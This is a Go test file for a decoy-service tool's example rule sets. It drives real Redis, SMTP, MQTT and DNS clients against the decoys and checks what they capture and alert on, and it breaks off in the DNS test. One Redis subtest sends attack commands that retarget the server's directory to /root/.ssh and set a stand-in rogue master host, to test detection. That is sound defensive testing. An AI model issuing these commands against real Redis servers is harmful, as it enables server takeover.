package examples

import (
	"bytes"
	"context"
	"errors"
	"fmt"
	"io"
	"io/fs"
	"net"
	"os/exec"
	"regexp"
	"slices"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/parley-dev/parley/api/v1alpha1"
	"github.com/parley-dev/parley/connector"
	"github.com/parley-dev/parley/connector/connectortest"
	"github.com/parley-dev/parley/rules"
)

// Generous bounds: the tests share two cores with other work.
const (
	clientTimeout = 60 * time.Second
	waitTimeout   = 30 * time.Second
	pollEvery     = 10 * time.Millisecond
)

// tested lists every example and the Debian packages of the clients its test drives, so that
// a new example without a test fails TestEveryExampleIsTested.
var tested = map[string]string{
	"redis.yaml":  "redis-tools nmap",
	"smtp.yaml":   "swaks netcat-openbsd nmap",
	"mqtt.yaml":   "mosquitto-clients netcat-openbsd nmap",
	"dns.yaml":    "dnsutils",
	"telnet.yaml": "socat netcat-openbsd nmap",
	"modbus.yaml": "socat nmap",
}

func exampleNames(t *testing.T) []string {
	t.Helper()
	names, err := fs.Glob(files, "*.yaml")
	if err != nil {
		t.Fatal(err)
	}
	if len(names) == 0 {
		t.Fatal("no embedded examples")
	}
	return names
}

// TestExamplesCompile validates every embedded example as `parley check` does, and checks
// that each starts with a header comment saying how to try it.
func TestExamplesCompile(t *testing.T) {
	for _, name := range exampleNames(t) {
		t.Run(name, func(t *testing.T) {
			doc, err := Rules(name)
			if err != nil {
				t.Fatal(err)
			}
			prog, errs := rules.Compile(doc.Name(), doc.Rules.Generation, &doc.Rules.Spec)
			for _, e := range errs {
				t.Errorf("%s: %v", name, e)
			}
			if len(errs) > 0 {
				return
			}
			if prog.RuleCount == 0 {
				t.Errorf("%s: no custom rules", name)
			}
			raw, err := Read(name)
			if err != nil {
				t.Fatal(err)
			}
			if !bytes.HasPrefix(raw, []byte("# ")) {
				t.Errorf("%s: does not start with a header comment", name)
			}
			header := string(raw[:bytes.Index(raw, []byte("\napiVersion:"))+1])
			for _, want := range []string{"Try it:", "parley run -f examples/" + name} {
				if !strings.Contains(header, want) {
					t.Errorf("%s: header comment lacks %q", name, want)
				}
			}
		})
	}
}

func TestEveryExampleIsTested(t *testing.T) {
	for _, name := range exampleNames(t) {
		if _, ok := tested[name]; !ok {
			t.Errorf("%s has no client test in examples_test.go; add one and list it in `tested`", name)
		}
	}
	if _, err := Rules(Default); err != nil {
		t.Errorf("Default %s: %v", Default, err)
	}
}

// --- harness ---

// server is an example served in-process on a free loopback port.
type server struct {
	*connectortest.Server
	name string
	port int
}

// serve runs the connector of an example until the test ends, which also checks that Run
// returns no error once cancelled.
func serve(t *testing.T, name string) *server {
	t.Helper()
	doc, err := Rules(name)
	if err != nil {
		t.Fatal(err)
	}
	prog, errs := rules.Compile(doc.Name(), doc.Rules.Generation, &doc.Rules.Spec)
	if len(errs) > 0 {
		t.Fatalf("%s: %v", name, errs.ToAggregate())
	}
	srv := connectortest.Start(t, prog, func(o *connector.Options) {
		o.Name = "example-" + strings.TrimSuffix(name, ".yaml")
		loopback := "127.0.0.1" // addr and the client command lines say 127.0.0.1
		o.IP = &loopback
	})
	t.Cleanup(func() {
		if err := srv.Stop(); err != nil {
			t.Errorf("Run: %v", err)
		}
	})
	var port int
	switch a := srv.Connector.Addr().(type) {
	case *net.TCPAddr:
		port = a.Port
	case *net.UDPAddr:
		port = a.Port
	default:
		t.Fatalf("unexpected address %v", srv.Connector.Addr())
	}
	return &server{Server: srv, name: name, port: port}
}

func (s *server) addr() string { return net.JoinHostPort("127.0.0.1", strconv.Itoa(s.port)) }

// mark is the number of activities so far; activities from mark on belong to what follows.
func (s *server) mark() int { return s.Activities.Len() }

// waitFor polls the activities recorded since mark until cond holds, and returns them.
func (s *server) waitFor(t *testing.T, mark int, what string, cond func([]*v1alpha1.ActivityRecord) bool) []*v1alpha1.ActivityRecord {
	t.Helper()
	deadline := time.Now().Add(waitTimeout)
	for {
		acts := s.Activities.All()[mark:]
		if cond(acts) {
			return acts
		}
		if time.Now().After(deadline) {
			t.Fatalf("%s: no %s within %v; activities:\n%s", s.name, what, waitTimeout, dump(acts))
		}
		time.Sleep(pollEvery)
	}
}

// waitEnded waits until every conversation that started since mark has ended (at least one).
func (s *server) waitEnded(t *testing.T, mark int) []*v1alpha1.ActivityRecord {
	t.Helper()
	return s.waitFor(t, mark, "end of every conversation", func(acts []*v1alpha1.ActivityRecord) bool {
		open := map[string]bool{}
		for _, a := range acts {
			if a.Connection == nil {
				continue
			}
			switch a.Type {
			case v1alpha1.ActivityConnected:
				open[a.Connection.ID] = true
			case v1alpha1.ActivityEnded, v1alpha1.ActivityBroken, v1alpha1.ActivityTimedOut:
				delete(open, a.Connection.ID)
			}
		}
		return len(open) == 0 && count(acts, v1alpha1.ActivityConnected) > 0
	})
}

func dump(acts []*v1alpha1.ActivityRecord) string {
	var b strings.Builder
	for _, a := range acts {
		fmt.Fprintf(&b, "  %s", a.Type)
		if a.Connection != nil {
			fmt.Fprintf(&b, " %s", a.Connection.ID)
		}
		if a.Input != nil {
			text := a.Input.Text
			if len(text) > 600 { // a large message: its start and its end
				text = text[:300] + "[...]" + text[len(text)-300:]
			}
			fmt.Fprintf(&b, " input=%q", text)
		}
		if a.Rules != nil {
			fmt.Fprintf(&b, " executed=%v async=%v basic=%q", a.Rules.Executed, a.Rules.Async, a.Rules.Basic)
		}
		for _, c := range a.Captures {
			fmt.Fprintf(&b, " capture[%d %s=%q]", c.Rule, c.Variable, c.Value)
		}
		if a.Alert {
			b.WriteString(" ALERT")
		}
		if a.Message != "" {
			fmt.Fprintf(&b, " message=%q", a.Message)
		}
		b.WriteByte('\n')
	}
	return b.String()
}

func count(acts []*v1alpha1.ActivityRecord, typ v1alpha1.ActivityType) int {
	n := 0
	for _, a := range acts {
		if a.Type == typ {
			n++
		}
	}
	return n
}

// executed lists the custom rules fired by inputs, in order.
func executed(acts []*v1alpha1.ActivityRecord) []int32 {
	var ids []int32
	for _, a := range acts {
		if a.Type == v1alpha1.ActivityInput && a.Rules != nil {
			ids = append(ids, a.Rules.Executed...)
		}
	}
	return ids
}

// asyncRan lists the async rules that ran, in order.
func asyncRan(acts []*v1alpha1.ActivityRecord) []int32 {
	var ids []int32
	for _, a := range acts {
		if a.Type == v1alpha1.ActivityAsync && a.Rules != nil {
			ids = append(ids, a.Rules.Async...)
		}
	}
	return ids
}

// captured lists the values captured into variable, in order.
func captured(acts []*v1alpha1.ActivityRecord, variable string) []string {
	var vals []string
	for _, a := range acts {
		for _, c := range a.Captures {
			if c.Variable == variable {
				vals = append(vals, c.Value)
			}
		}
	}
	return vals
}

// memory is a reported connection variable as of the last activity that reported it.
func memory(acts []*v1alpha1.ActivityRecord, variable string) string {
	for _, a := range slices.Backward(acts) {
		if a.Memory != nil {
			if v, ok := a.Memory.Connection[variable]; ok {
				return v
			}
		}
	}
	return ""
}

// global is a reported global variable as of the last activity that reported it.
func global(acts []*v1alpha1.ActivityRecord, variable string) string {
	for _, a := range slices.Backward(acts) {
		if a.Memory != nil {
			if v, ok := a.Memory.Global[variable]; ok {
				return v
			}
		}
	}
	return ""
}

// alertedBy reports whether an Input activity fired rule id and was flagged as an alert.
func alertedBy(acts []*v1alpha1.ActivityRecord, id int32) bool {
	for _, a := range acts {
		if a.Type == v1alpha1.ActivityInput && a.Alert && a.Rules != nil && slices.Contains(a.Rules.Executed, id) {
			return true
		}
	}
	return false
}

// containsInOrder reports whether want appears in got in order (not necessarily adjacent).
func containsInOrder(got, want []int32) bool {
	i := 0
	for _, g := range got {
		if i < len(want) && g == want[i] {
			i++
		}
	}
	return i == len(want)
}

// inputsOf lists the text of the inputs that fired rule id, in order.
func inputsOf(acts []*v1alpha1.ActivityRecord, id int32) []string {
	var texts []string
	for _, a := range acts {
		if a.Type == v1alpha1.ActivityInput && a.Input != nil && a.Rules != nil && slices.Contains(a.Rules.Executed, id) {
			texts = append(texts, a.Input.Text)
		}
	}
	return texts
}

func endedBy(acts []*v1alpha1.ActivityRecord, message string) bool {
	for _, a := range acts {
		if a.Type == v1alpha1.ActivityEnded && a.Message == message {
			return true
		}
	}
	return false
}

// client finds a client binary; a missing one fails the test with the package to install.
func client(t *testing.T, bin string, pkg string) string {
	t.Helper()
	path, err := exec.LookPath(bin)
	if err != nil {
		t.Fatalf("%s not found (%v): install the Debian package %s (apt-get install -y %s)", bin, err, pkg, pkg)
	}
	return path
}

// run runs a client to completion with stdin and returns its combined output and exit code.
func run(t *testing.T, stdin string, bin string, args ...string) (string, int) {
	t.Helper()
	ctx, cancel := context.WithTimeout(context.Background(), clientTimeout)
	defer cancel()
	cmd := exec.CommandContext(ctx, bin, args...)
	cmd.Stdin = strings.NewReader(stdin)
	var out connectortest.Buffer // collects the client's output while the test reads it
	cmd.Stdout, cmd.Stderr = &out, &out
	err := cmd.Run()
	if ctx.Err() != nil {
		t.Fatalf("%s %s: no exit within %v; output:\n%s", bin, strings.Join(args, " "), clientTimeout, out.String())
	}
	code := 0
	if err != nil {
		var ee *exec.ExitError
		if !errors.As(err, &ee) {
			t.Fatalf("%s: %v", bin, err)
		}
		code = ee.ExitCode()
	}
	t.Logf("$ %s %s  (exit %d)\n%s", bin, strings.Join(args, " "), code, out.String())
	return out.String(), code
}

// runOK runs a client that must exit 0.
func runOK(t *testing.T, stdin string, bin string, args ...string) string {
	t.Helper()
	out, code := run(t, stdin, bin, args...)
	if code != 0 {
		t.Fatalf("%s %s: exit %d, want 0; output:\n%s", bin, strings.Join(args, " "), code, out)
	}
	return out
}

func wantContains(t *testing.T, what, got string, wants ...string) {
	t.Helper()
	for _, w := range wants {
		if !strings.Contains(got, w) {
			t.Errorf("%s: want %q in:\n%s", what, w, got)
		}
	}
}

func wantMatch(t *testing.T, what, got, expr string) {
	t.Helper()
	if !regexp.MustCompile(expr).MatchString(got) {
		t.Errorf("%s: want a match of %s in:\n%s", what, expr, got)
	}
}

func wantValues(t *testing.T, acts []*v1alpha1.ActivityRecord, what string, got []string, want ...string) {
	t.Helper()
	if !slices.Equal(got, want) {
		t.Errorf("%s = %q, want %q; activities:\n%s", what, got, want, dump(acts))
	}
}

// --- Redis: redis-cli ---

func TestRedis(t *testing.T) {
	cli := client(t, "redis-cli", "redis-tools")
	srv := serve(t, "redis.yaml")
	port := strconv.Itoa(srv.port)

	t.Run("PING", func(t *testing.T) {
		mark := srv.mark()
		out := runOK(t, "", cli, "-h", "127.0.0.1", "-p", port, "PING")
		if strings.TrimSpace(out) != "PONG" {
			t.Errorf("PING: got %q, want PONG", out)
		}
		acts := srv.waitEnded(t, mark)
		if got := executed(acts); !slices.Equal(got, []int32{1}) {
			t.Errorf("executed %v, want [1]; activities:\n%s", got, dump(acts))
		}
	})

	t.Run("AUTH captured", func(t *testing.T) {
		mark := srv.mark()
		out := runOK(t, "", cli, "-h", "127.0.0.1", "-p", port, "-a", "hunter2", "--no-auth-warning", "PING")
		if strings.TrimSpace(out) != "PONG" {
			t.Errorf("AUTH then PING: got %q, want PONG", out)
		}
		acts := srv.waitEnded(t, mark)
		wantValues(t, acts, "captured password", captured(acts, "password"), "hunter2")
		if !alertedBy(acts, 2) {
			t.Errorf("AUTH (rule 2) not an alert; activities:\n%s", dump(acts))
		}
		if got := executed(acts); !containsInOrder(got, []int32{2, 1}) {
			t.Errorf("executed %v, want AUTH (2) then PING (1)", got)
		}
		if got := memory(acts, "password"); got != "hunter2" {
			t.Errorf("reported memory password = %q, want hunter2", got)
		}
	})

	t.Run("SET then GET in one session", func(t *testing.T) {
		mark := srv.mark()
		// Without a command, redis-cli reads commands from stdin, one at a time, each
		// waiting for its reply: one interactive session, one conversation.
		out := runOK(t, "SET greeting hello\nGET greeting\nGET unknown\n", cli, "--no-raw", "-h", "127.0.0.1", "-p", port)
		if got, want := strings.Fields(out), []string{"OK", `"hello"`, "(nil)"}; !slices.Equal(got, want) {
			t.Errorf("session output %q, want %q", got, want)
		}
		acts := srv.waitEnded(t, mark)
		if n := count(acts, v1alpha1.ActivityConnected); n != 1 {
			t.Errorf("%d conversations, want 1", n)
		}
		wantValues(t, acts, "captured key", captured(acts, "key"), "greeting")
		wantValues(t, acts, "captured val", captured(acts, "val"), "hello")
		wantValues(t, acts, "captured getkey", captured(acts, "getkey"), "greeting", "unknown")
		if got := executed(acts); !containsInOrder(got, []int32{3, 4, 4}) {
			t.Errorf("executed %v, want SET (3), GET (4), GET (4)", got)
		}
		// GET of the stored key runs rule 20 (the value from memory), of another key rule 21 (nil).
		if got := asyncRan(acts); !slices.Equal(got, []int32{20, 21}) {
			t.Errorf("async rules %v, want [20 21]; activities:\n%s", got, dump(acts))
		}
	})

	t.Run("GET of an unknown key", func(t *testing.T) {
		mark := srv.mark()
		out := runOK(t, "", cli, "--no-raw", "-h", "127.0.0.1", "-p", port, "GET", "greeting")
		if strings.TrimSpace(out) != "(nil)" {
			t.Errorf("GET in a new connection: got %q, want (nil) (memory is per connection)", out)
		}
		srv.waitEnded(t, mark)
	})

	t.Run("binary-safe value", func(t *testing.T) {
		mark := srv.mark()
		// raw output: redis-cli prints the bulk string's bytes as they are
		out := runOK(t, "SET k \"héllo wörld\"\nGET k\n", cli, "--raw", "-h", "127.0.0.1", "-p", port)
		if got, want := strings.Split(strings.TrimSpace(out), "\n"), []string{"OK", "héllo wörld"}; !slices.Equal(got, want) {
			t.Errorf("output %q, want %q", got, want)
		}
		srv.waitEnded(t, mark)
	})

	t.Run("INFO", func(t *testing.T) {
		mark := srv.mark()
		out := runOK(t, "", cli, "-h", "127.0.0.1", "-p", port, "INFO")
		// the last line proves the bulk string length is right
		wantContains(t, "INFO", out, "# Server", "redis_version:7.2.4", "uptime_in_days:41")
		srv.waitEnded(t, mark)
	})

	t.Run("pipelined commands get one reply each", func(t *testing.T) {
		mark := srv.mark()
		// --pipe writes every command at once (then an ECHO it waits for): with RESP framing
		// each command is its own input, whatever reads they arrive in.
		cmds := strings.Repeat("*1\r\n$4\r\nPING\r\n", 50) + "*3\r\n$3\r\nSET\r\n$1\r\nk\r\n$3\r\nv v\r\n" + "PING\r\n"
		out := runOK(t, cmds, cli, "-h", "127.0.0.1", "-p", port, "--pipe")
		wantContains(t, "--pipe", out, "errors: 0, replies: 52")
		acts := srv.waitEnded(t, mark)
		want := append(slices.Repeat([]int32{1}, 50), 3, 1, 12)
		if got := executed(acts); !slices.Equal(got, want) {
			t.Errorf("executed %v, want %v", got, want)
		}
		wantValues(t, acts, "captured val", captured(acts, "val"), "v v")
	})

	t.Run("GET with a wrong number of arguments", func(t *testing.T) {
		mark := srv.mark()
		out := runOK(t, "", cli, "--no-raw", "-h", "127.0.0.1", "-p", port, "GET", "a", "b")
		if got, want := strings.TrimSpace(out), "(error) ERR wrong number of arguments for 'get' command"; got != want {
			t.Errorf("GET a b: got %q, want %q", got, want)
		}
		acts := srv.waitEnded(t, mark)
		if got := executed(acts); !slices.Equal(got, []int32{13}) {
			t.Errorf("executed %v, want [13]; activities:\n%s", got, dump(acts))
		}
	})

	t.Run("CONFIG SET and SLAVEOF alert", func(t *testing.T) {
		mark := srv.mark()
		out := runOK(t, "CONFIG SET dir /root/.ssh\nSLAVEOF 203.0.113.7 21000\nFLUSHALL\n", cli, "--no-raw", "-h", "127.0.0.1", "-p", port)
		if got, want := strings.Split(strings.TrimSpace(out), "\n"), []string{"OK", "OK", "(error) ERR unknown command"}; !slices.Equal(got, want) {
			t.Errorf("output %q, want %q", got, want)
		}
		acts := srv.waitEnded(t, mark)
		wantValues(t, acts, "captured config", captured(acts, "config"), "dir")
		wantValues(t, acts, "captured config_value", captured(acts, "config_value"), "/root/.ssh")
		wantValues(t, acts, "captured master", captured(acts, "master"), "203.0.113.7")
		wantValues(t, acts, "captured key (SET must not fire on CONFIG SET)", captured(acts, "key"))
		if !alertedBy(acts, 8) || !alertedBy(acts, 10) {
			t.Errorf("CONFIG SET (8) and SLAVEOF (10) must be alerts; activities:\n%s", dump(acts))
		}
	})
}

// --- SMTP: swaks ---

func TestSMTP(t *testing.T) {
	swaks := client(t, "swaks", "swaks")
	nc := client(t, "nc.openbsd", "netcat-openbsd")
	srv := serve(t, "smtp.yaml")

	for _, tc := range []struct {
		mech       string
		user, pass string
		authRule   int32 // the rule whose input completes the login (an alert)
	}{
		{mech: "LOGIN", user: "postmaster", pass: "Winter2024!", authRule: 32},
		{mech: "PLAIN", user: "alice@b.example", pass: "s3cret pass", authRule: 12},
	} {
		t.Run("AUTH "+tc.mech, func(t *testing.T) {
			mark := srv.mark()
			out := runOK(t, "", swaks,
				"--server", srv.addr(), "--helo", "client.example",
				"--from", "c@d.example", "--to", "a@b.example,x@y.example",
				"--auth", tc.mech, "--auth-user", tc.user, "--auth-password", tc.pass,
				"--header", "Subject: quarterly report", "--timeout", "30")
			wantContains(t, "swaks", out,
				"220 mail.example.com ESMTP", "250-AUTH PLAIN LOGIN", "235 2.7.0 Authentication successful",
				"354 End data", "250 2.0.0 Ok: queued as ", "221 2.0.0 Bye")
			acts := srv.waitEnded(t, mark)
			if !endedBy(acts, "ending rule 23") {
				t.Errorf("conversation not ended by QUIT (rule 23); activities:\n%s", dump(acts))
			}
			wantValues(t, acts, "captured helo", captured(acts, "helo"), "client.example")
			wantValues(t, acts, "captured mail_from", captured(acts, "mail_from"), "c@d.example")
			wantValues(t, acts, "captured rcpt_to", captured(acts, "rcpt_to"), "a@b.example", "x@y.example")
			wantValues(t, acts, "captured subject", captured(acts, "subject"), "quarterly report")
			for v, want := range map[string]string{
				"user": tc.user, "password": tc.pass, "recipients": "<a@b.example><x@y.example>",
				"stage": "cmd", "mail_from": "c@d.example",
			} {
				if got := memory(acts, v); got != want {
					t.Errorf("reported memory %s = %q, want %q", v, got, want)
				}
			}
			if !alertedBy(acts, tc.authRule) {
				t.Errorf("login (rule %d) not an alert; activities:\n%s", tc.authRule, dump(acts))
			}
			switch tc.mech {
			case "LOGIN":
				// base64 lines captured, decoded into user and password by STR_DECODE_B64
				wantValues(t, acts, "captured user_b64", captured(acts, "user_b64"), "cG9zdG1hc3Rlcg==")
				if got := executed(acts); !containsInOrder(got, []int32{10, 15, 31, 32, 16, 17, 17, 18, 50, 23}) {
					t.Errorf("executed %v", got)
				}
			case "PLAIN":
				// "\0user\0password" captured in base64, decoded, then split by async rule 40
				wantValues(t, acts, "captured auth_b64", captured(acts, "auth_b64"), "AGFsaWNlQGIuZXhhbXBsZQBzM2NyZXQgcGFzcw==")
				// With memoryUpdateWhen: Detected, rule 40's split runs when rule 12 schedules it
				// (the user and password above show it did); its Async run itself races the
				// client, whose QUIT may end the conversation first on a loaded machine.
				if got := asyncRan(acts); len(got) > 1 || len(got) == 1 && got[0] != 40 {
					t.Errorf("async rules %v, want [40] or none", got)
				}
				if got := executed(acts); !containsInOrder(got, []int32{10, 12, 16, 17, 17, 18, 50, 23}) {
					t.Errorf("executed %v", got)
				}
			}
		})
	}

	t.Run("pipelined commands and a body in pieces", func(t *testing.T) {
		mark := srv.mark()
		// -C: lines end in CRLF
		term := startTerminal(t, nc, "-C", "127.0.0.1", strconv.Itoa(srv.port))
		term.expect("220 mail.example.com ESMTP")
		// four commands in one write (a read may hold several lines); replies in order
		term.send("EHLO pipe.example\nMAIL FROM:<p@q.example>\nRCPT TO:<r@s.example>\nDATA")
		term.expect("250 DSN\r\n250 2.1.0 Ok\r\n250 2.1.5 Ok\r\n354 End data with <CR><LF>.<CR><LF>\r\n")
		// the body in three writes; only the end of the message gets a reply
		term.send("Subject: in pieces\n\nfirst part")
		term.send("MAIL FROM:<not@a.command>\nsecond part")
		term.send(".")
		term.expect("250 2.0.0 Ok: queued as ")
		term.send("NOOP")
		term.expect("250 2.0.0 Ok\r\n")
		term.send("QUIT")
		term.expect("221 2.0.0 Bye\r\n")
		// the decoy closed the connection; nc quits once its stdin is closed as well
		_ = term.stdin.Close()
		term.exit()
		if strings.Count(term.out.String(), "\r\n") != 15 { // 220, 8 EHLO lines, 250, 250, 354, 250, 250, 221
			t.Errorf("unexpected replies:\n%s", term.out.String())
		}
		acts := srv.waitEnded(t, mark)
		if !endedBy(acts, "ending rule 23") {
			t.Errorf("conversation not ended by QUIT (rule 23); activities:\n%s", dump(acts))
		}
		// "MAIL FROM" in the body is message text, not a command
		wantValues(t, acts, "captured mail_from", captured(acts, "mail_from"), "p@q.example")
		wantValues(t, acts, "captured subject", captured(acts, "subject"), "in pieces")
		// one input per command, the four pipelined ones included, and the body in three
		// writes is one input: the whole message, up to its "." line
		if got, want := executed(acts), []int32{10, 16, 17, 18, 50, 20, 23}; !slices.Equal(got, want) {
			t.Errorf("executed %v, want %v; activities:\n%s", got, want, dump(acts))
		}
		body := "Subject: in pieces\r\n\r\nfirst part\r\nMAIL FROM:<not@a.command>\r\nsecond part\r\n.\r\n"
		if got := inputsOf(acts, 50); !slices.Equal(got, []string{body}) {
			t.Errorf("message inputs %q, want %q", got, body)
		}
	})

	t.Run("a large message in many segments", func(t *testing.T) {
		// about 150 KiB of body, more than a 64 KiB frame and than one read: swaks reads it
		// from stdin and sends it dot-stuffed, ended by "\r\n.\r\n"
		var body strings.Builder
		for i := range 3000 {
			fmt.Fprintf(&body, "line %04d of a large message, padded to fifty bytes.\n", i)
		}
		// a line of only "." in the body: swaks doubles it, so it does not end the message
		body.WriteString(".\nthe last line\n")
		mark := srv.mark()
		out := runOK(t, body.String(), swaks,
			"--server", srv.addr(), "--helo", "big.example",
			"--from", "c@d.example", "--to", "a@b.example",
			"--header", "Subject: a large report", "--body", "-", "--timeout", "30",
			"--suppress-data")
		if n := strings.Count(out, "250 2.0.0 Ok: queued as "); n != 1 {
			t.Errorf("%d queued replies, want 1:\n%s", n, out)
		}
		acts := srv.waitEnded(t, mark)
		if got, want := executed(acts), []int32{10, 16, 17, 18, 50, 23}; !slices.Equal(got, want) {
			t.Errorf("executed %v, want %v; activities:\n%s", got, want, dump(acts))
		}
		msgs := inputsOf(acts, 50)
		if len(msgs) != 1 {
			t.Fatalf("%d message inputs, want 1; activities:\n%s", len(msgs), dump(acts))
		}
		msg := msgs[0]
		if len(msg) < 150000 || !strings.Contains(msg, "\r\nline 0000 of") ||
			!strings.Contains(msg, "\r\nline 2999 of") ||
			!strings.Contains(msg, "\r\n..\r\nthe last line\r\n") || !strings.HasSuffix(msg, "\r\n.\r\n") {
			t.Errorf("message input of %d bytes is not the whole message; it ends %q", len(msg), msg[max(0, len(msg)-120):])
		}
		wantValues(t, acts, "captured subject", captured(acts, "subject"), "a large report")
		if got := memory(acts, "subject"); got != "a large report" {
			t.Errorf("reported memory subject = %q, want %q", got, "a large report")
		}
	})

	t.Run("message counter", func(t *testing.T) {
		if got := global(srv.Activities.All(), "messages"); got != "4" {
			t.Errorf("global messages = %q after four messages, want 4", got)
		}
	})
}

// --- MQTT: mosquitto_pub, mosquitto_sub ---

func TestMQTT(t *testing.T) {
	pub := client(t, "mosquitto_pub", "mosquitto-clients")
	sub := client(t, "mosquitto_sub", "mosquitto-clients")
	srv := serve(t, "mqtt.yaml")
	port := strconv.Itoa(srv.port)

	t.Run("QoS 0", func(t *testing.T) {
		mark := srv.mark()
		runOK(t, "", pub, "-h", "127.0.0.1", "-p", port, "-i", "parley-test", "-t", "sensors/t1", "-m", "21.5")
		acts := srv.waitEnded(t, mark)
		wantValues(t, acts, "captured client_id", captured(acts, "client_id"), "parley-test")
		wantValues(t, acts, "captured topic", captured(acts, "topic"), "sensors/t1")
		if got := executed(acts); !containsInOrder(got, []int32{1, 3, 10}) || slices.Contains(got, 4) {
			t.Errorf("executed %v, want CONNECT (1), PUBLISH (3), DISCONNECT (10), no PUBACK", got)
		}
		if !endedBy(acts, "ending rule 10") {
			t.Errorf("not ended by DISCONNECT; activities:\n%s", dump(acts))
		}
	})

	t.Run("QoS 1 with credentials", func(t *testing.T) {
		mark := srv.mark()
		out := runOK(t, "", pub, "-d", "-h", "127.0.0.1", "-p", port, "-u", "admin", "-P", "s3cret!",
			"-q", "1", "-t", "home/livingroom/temperature", "-m", "21.5")
		wantContains(t, "mosquitto_pub -q 1", out, "received CONNACK (0)", "received PUBACK (Mid: 1")
		acts := srv.waitEnded(t, mark)
		wantValues(t, acts, "captured username", captured(acts, "username"), "admin")
		wantValues(t, acts, "captured password", captured(acts, "password"), "s3cret!")
		wantValues(t, acts, "captured topic", captured(acts, "topic"), "home/livingroom/temperature")
		if !alertedBy(acts, 2) {
			t.Errorf("CONNECT with credentials (rule 2) not an alert; activities:\n%s", dump(acts))
		}
		if got := executed(acts); !containsInOrder(got, []int32{1, 2, 3, 4, 40, 10}) {
			t.Errorf("executed %v, want CONNECT (1, 2), PUBLISH (3, 4), PUBACK (40), DISCONNECT", got)
		}
		if got := memory(acts, "pid"); got != "" {
			t.Errorf("pid is not reported, got %q", got)
		}
	})

	t.Run("QoS 2", func(t *testing.T) {
		mark := srv.mark()
		out := runOK(t, "", pub, "-d", "-h", "127.0.0.1", "-p", port, "-q", "2", "-t", "a/b", "-m", "x")
		wantContains(t, "mosquitto_pub -q 2", out, "received PUBREC (Mid: 1)", "received PUBCOMP (Mid: 1")
		acts := srv.waitEnded(t, mark)
		if got, want := executed(acts), []int32{1, 3, 5, 41, 6, 10}; !slices.Equal(got, want) {
			t.Errorf("executed %v, want %v: CONNECT, PUBLISH, QoS 2, PUBREC, PUBREL, DISCONNECT", got, want)
		}
	})

	t.Run("long topic", func(t *testing.T) {
		// 200 bytes: the topic length's low byte is above 0x7F and the remaining length
		// takes two bytes; the first 64 bytes are captured
		topic := "plant/" + strings.Repeat("x", 194)
		mark := srv.mark()
		runOK(t, "", pub, "-h", "127.0.0.1", "-p", port, "-t", topic, "-m", strings.Repeat("7", 100))
		acts := srv.waitEnded(t, mark)
		wantValues(t, acts, "captured topic", captured(acts, "topic"), topic[:64])
	})

	t.Run("large messages on one connection", func(t *testing.T) {
		// -l: one message per line of stdin, all on one connection; lines of 4 to 12 KiB,
		// each PUBLISH larger than a read of the first input (maxInputSize), several in
		// flight at once (QoS 1), so packets are split over reads and share reads
		const n = 6
		var lines strings.Builder
		for i := range n {
			fmt.Fprintf(&lines, "message %d %s\n", i, strings.Repeat(strconv.Itoa(i), 4096*(1+i%3)))
		}
		mark := srv.mark()
		out := runOK(t, lines.String(), pub, "-d", "-h", "127.0.0.1", "-p", port, "-q", "1", "-t", "bulk/data", "-l")
		for i := 1; i <= n; i++ {
			wantContains(t, "mosquitto_pub -l", out, fmt.Sprintf("received PUBACK (Mid: %d", i))
		}
		acts := srv.waitEnded(t, mark)
		if n := count(acts, v1alpha1.ActivityConnected); n != 1 {
			t.Errorf("%d conversations, want 1", n)
		}
		// one input per PUBLISH, each the whole packet: its last bytes are the line's
		msgs := inputsOf(acts, 3)
		if len(msgs) != n {
			t.Fatalf("%d PUBLISH inputs, want %d; activities:\n%s", len(msgs), n, dump(acts))
		}
		for i, m := range msgs {
			payload := fmt.Sprintf("message %d %s", i, strings.Repeat(strconv.Itoa(i), 4096*(1+i%3)))
			if !strings.HasSuffix(m, payload) || len(m) > len(payload)+20 {
				t.Errorf("PUBLISH input %d holds %d bytes, not its whole message of %d", i, len(m), len(payload))
			}
		}
		if got, want := executed(acts), append(append([]int32{1}, slices.Repeat([]int32{3, 4, 40}, n)...), 10); !slices.Equal(got, want) {
			t.Errorf("executed %v, want %v", got, want)
		}
	})

	t.Run("not MQTT", func(t *testing.T) {
		// a first packet that is not CONNECT: the broker closes the connection at once
		nc := client(t, "nc.openbsd", "netcat-openbsd")
		mark := srv.mark()
		runOK(t, "GET / HTTP/1.0\r\n\r\n", nc, "-N", "127.0.0.1", port)
		acts := srv.waitEnded(t, mark)
		if !endedBy(acts, "ending rule 11") || !slices.Equal(executed(acts), []int32{11}) {
			t.Errorf("not closed by rule 11; activities:\n%s", dump(acts))
		}
	})

	t.Run("SUBSCRIBE", func(t *testing.T) {
		mark := srv.mark()
		// -E: exit once the subscription is acknowledged
		out := runOK(t, "", sub, "-d", "-E", "-h", "127.0.0.1", "-p", port, "-t", "sensors/#")
		wantContains(t, "mosquitto_sub", out, "received SUBACK", "Subscribed (mid: 1): 0")
		acts := srv.waitEnded(t, mark)
		wantValues(t, acts, "captured filter", captured(acts, "filter"), "sensors/#")
	})
}

// --- DNS: dig ---

func TestDNS(t *testing.T) {
	dig := client(t, "dig", "dnsutils")
	srv := serve(t, "dns.yaml")
	port := strconv.Itoa(srv.port)
	// query runs dig and returns its output and the Input activities of its query, which
	// must all (dig retries after a timeout) have fired rule only.
	query := func(t *testing.T, rule int32, args ...string) (string, []*v1alpha1.ActivityRecord) {
		t.Helper()
		mark := srv.mark()
		out := runOK(t, "", dig, append([]string{"@127.0.0.1", "-p", port, "+tries=2", "+time=5"}, args...)...)
		acts := srv.waitFor(t, mark, "Input activity", func(acts []*v1alpha1.ActivityRecord) bool {
			return count(acts, v1alpha1.ActivityInput) > 0
		})
		acts = slices.DeleteFunc(acts, func(a *v1alpha1.ActivityRecord) bool { return a.Type != v1alpha1.ActivityInput })
		for _, a := range acts {
			if a.Rules == nil || !slices.Equal(a.Rules.Executed, []int32{rule}) {
				t.Errorf("query fired %v, want [%d]; activities:\n%s", a.Rules, rule, dump(acts))
			}
			if a.Message != "" {
				t.Errorf("message %q (amplification guard?)", a.Message)
			}
		}
		return out, acts
	}

	t.Run("A with EDNS", func(t *testing.T) {
		// dig sends an OPT record (ARCOUNT 1) by default
		out, acts := query(t, 2, "decoy.example", "A")
		wantContains(t, "dig A", out, "status: NOERROR", "QUERY: 1, ANSWER: 1, AUTHORITY: 0, ADDITIONAL: 0")
		wantMatch(t, "dig A", out, `(?m)^decoy\.example\.\s+300\s+IN\s+A\s+192\.0\.2\.1$`)
		// the question, up to QTYPE and QCLASS (not the OPT record that follows)
		for _, q := range captured(acts, "question") {
